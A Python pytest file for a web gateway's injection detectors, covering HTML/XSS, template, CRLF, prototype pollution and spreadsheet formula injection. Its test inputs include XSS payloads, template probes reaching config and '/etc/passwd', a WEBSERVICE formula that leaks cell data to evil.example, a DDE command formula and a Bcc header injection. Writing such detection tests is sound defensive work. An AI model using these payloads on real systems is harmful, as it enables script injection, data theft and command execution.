"""The mechanisms about markup, scripts, templates, prototypes, line ends and includes, as mechanisms: shape, bounds, gates."""

from types import ModuleType

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.inspection.engine import specials_of
from gateway.inspection.finding import Position
from gateway.inspection.html import tokenizer
from gateway.inspection.mechanisms import crlf, html, include, prototype, script, template
from gateway.inspection.mechanisms.html import SIGNS as HTML_SIGNS
from gateway.inspection.script import program

MECHANISMS = (html, script, template, prototype, crlf, include)
TEXT = st.text(alphabet="<>\"'`=/ -!ab\n\r(){}[];:&%$#|\\.*,on1_@+", max_size=80)
STRONG = HTML_SIGNS.keys() - {"html.mention", "html.link", "html.input", "html.idle_handler", "html.code_sample"}


def names(mechanism: ModuleType, text: str, position: Position = Position.COOKIE) -> list[str]:
    return [sign.name for sign in mechanism.signs(text, position)]


@pytest.mark.parametrize("mechanism", MECHANISMS, ids=lambda each: each.CLASS)
@given(TEXT, st.sampled_from(Position))
def test_any_text_is_read_and_signs_are_known_and_lie_in_it(
    mechanism: ModuleType, text: str, position: Position
) -> None:
    for sign in mechanism.signs(text, position):
        assert sign.name in mechanism.SIGNS
        assert 0 <= sign.start <= sign.end <= len(text)


@pytest.mark.parametrize("mechanism", MECHANISMS, ids=lambda each: each.CLASS)
@given(TEXT)
def test_the_gate_lets_through_whatever_has_signs(mechanism: ModuleType, text: str) -> None:
    if list(mechanism.signs(text, Position.COOKIE)):
        assert mechanism.can_occur(specials_of(text.encode()), text.lower())


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src='//evil.example'></iframe>",
    ],
)
@given(TEXT)
def test_nothing_written_before_markup_hides_it(payload: str, before: str) -> None:
    assert not STRONG.isdisjoint(names(html, before + payload))


@pytest.mark.parametrize("payload", ["{{7*7}}", "${7*7}", "{{config.items()}}", "<%= 7*7 %>", "{{''.__class__}}"])
@given(TEXT)
def test_nothing_written_before_an_expression_hides_it(payload: str, before: str) -> None:
    assert not {"template.reach", "template.arithmetic"}.isdisjoint(names(template, before + payload))


@pytest.mark.parametrize("count", [20, 2_000])
def test_many_harmless_scripts_or_handlers_hide_none(count: int) -> None:
    assert "html.script_element" in names(html, "<script> and </script> " * count + "<script>alert(1)</script>")
    assert "html.event_handler" in names(html, "<b onclick=x>" * count + "<img src=x onerror=alert(1)>")


def test_many_expressions_hide_none() -> None:
    assert "template.reach" in names(template, "{{1a}}" * 2_000 + "{{7*7}}")


def test_no_more_programs_are_read_than_the_limit_says(monkeypatch: pytest.MonkeyPatch) -> None:
    read = []

    def counted(text: str) -> program.Program:
        read.append(text)
        return program.program(text)

    monkeypatch.setattr("gateway.inspection.mechanisms.html.program", counted)
    list(html.signs("<b onclick=x>" * 5_000, Position.FORM))
    assert 0 < len(read) <= 200


def test_no_tag_is_built_twice_for_unclosed_ones() -> None:
    assert sum(1 for _ in tokenizer.tags("<a " * 5_000)) == 5_000


@pytest.mark.parametrize("line", ["a: b", "\n", "x\n", " \n y", "\r\n\r\n"])
def test_rows_of_line_ends_are_read(line: str) -> None:
    assert isinstance(names(crlf, line * 3_000, Position.FORM), list)


def test_a_name_in_prose_is_a_mention_and_the_element_itself_is_not() -> None:
    assert names(html, "What does the <script> tag do?", Position.FORM) == ["html.mention"]
    assert names(html, "<script src=//evil.example>", Position.FORM) == ["html.script_element"]


def test_a_style_element_counts_by_what_it_does() -> None:
    assert names(html, "<style>b{color:red}</style>") == ["html.style_element"]
    assert names(html, "<style>@import 'http://evil.example'</style>") == ["html.acting_style"]
    assert names(html, "<style></style>") == []


def test_a_link_and_a_field_are_weak() -> None:
    assert names(html, "<a href=https://example.org>x</a>") == ["html.link"]
    assert names(html, "<input type=text>") == ["html.input"]
    assert names(html, "<form action=/search>") == ["html.input"]
    assert names(html, "<link rel=canonical href=/x>") == ["html.link"]
    assert names(html, "<meta name=viewport content=x>") == []


def test_several_lines_of_a_program_are_weaker_than_one() -> None:
    assert names(script, "alert(1)") == ["script.statement"]
    assert names(script, "a();\nb();\nalert(1)") == ["script.idle_statement"]


def test_a_formula_counts_by_what_it_reaches() -> None:
    assert names(include, "=SUM(A1:A3)") == ["include.formula"]
    assert names(include, '=HYPERLINK("http://example.org","x")') == ["include.formula_fetch"]
    assert names(include, '=WEBSERVICE("http://evil.example/"&A1)') == ["include.formula_leak"]
    assert names(include, "=cmd|' /C calc'!A0")[0] == "include.formula_command"


def test_the_same_line_end_means_more_where_no_lines_are_written() -> None:
    assert names(crlf, "a\nb", Position.FORM) == []
    assert names(crlf, "a\nb", Position.PATH) == ["crlf.line_end"]
    assert "crlf.any_header" in names(crlf, "a\nNote: b", Position.QUERY)
    assert names(crlf, "see 2026\n2026-01-01 10:00:00 ERROR x", Position.QUERY) == ["crlf.log_entry"]
    assert names(crlf, "well\nQUIT\nand so on", Position.FORM) == ["crlf.bare_mail_command"]


def test_a_name_leads_into_the_prototype_and_a_sentence_about_it_does_not() -> None:
    assert names(prototype, "a[__proto__][b]", Position.QUERY_NAME) == ["prototype.name"]
    assert names(prototype, "prototype", Position.QUERY_NAME) == []
    assert names(prototype, "what is __proto__ good for", Position.FORM) == []
    assert names(prototype, '{"__proto__":{}}', Position.FORM) == ["prototype.member"]


def test_a_statement_of_a_template_is_weak_and_one_that_loads_is_not() -> None:
    assert names(template, "{% if user %}") == []
    assert names(template, "{% if user == owner %}") == ["template.statement"]
    assert names(template, "{% include 'footer.html' %}") == []
    assert names(template, "{% include '/etc/passwd' %}") == ["template.loading_statement"]
    assert names(template, "{{ 'hello' | translate }}") == ["template.literal"]
    assert names(template, "{{alert(document.domain)}}") == ["template.script"]


def test_a_no_break_space_separates_attributes_once_a_program_has_tidied_it_up() -> None:
    assert names(html, "<svg\xa0onload=alert(1)>") == ["html.event_handler"]


def test_a_recipient_behind_a_line_end_that_is_written_as_an_escape_counts() -> None:
    assert names(crlf, "bob@example.org\\r\\nBcc: a@evil.example", Position.FORM) == ["crlf.mail_header"]


def test_the_way_out_of_a_comment_of_the_page_is_one() -> None:
    assert "script.string_breakout" in names(script, "*/alert(1)/*")
    assert names(script, "*/5 * * * * (every five minutes)") == []
    assert names(script, "/* a comment */ and text (more)") == []


def test_a_handler_that_stands_as_the_value_of_another_attribute_is_one() -> None:
    assert "html.event_handler" in names(html, "<img src= onmouseover=\"alert('x')\">")
